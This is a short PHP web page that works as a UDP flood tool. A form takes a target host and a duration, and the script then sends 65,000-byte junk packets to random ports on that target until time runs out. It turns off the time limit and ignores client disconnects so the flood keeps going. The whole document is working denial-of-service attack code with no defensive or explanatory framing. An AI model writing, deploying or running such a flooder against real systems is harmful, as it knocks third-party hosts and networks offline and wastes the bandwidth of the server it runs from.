<html><body>
<form method="get">Target <input name="t"> Seconds <input name="s"><input type="submit"></form>
<?php
if (!empty($_GET['t'])) {
    ignore_user_abort(true);
    set_time_limit(0);
    $target = $_GET['t'];
    $end = time() + (int)$_GET['s'];
    $junk = str_repeat('Z', 65000);
    $sent = 0;
    while (true) {
        if (time() >= $end) break;
        $s = @fsockopen("udp://" . $target, rand(1, 65535), $e, $es, 3);
        if ($s) { fwrite($s, $junk); fclose($s); $sent++; }
    }
    echo "packets: $sent";
}
?>
</body></html>
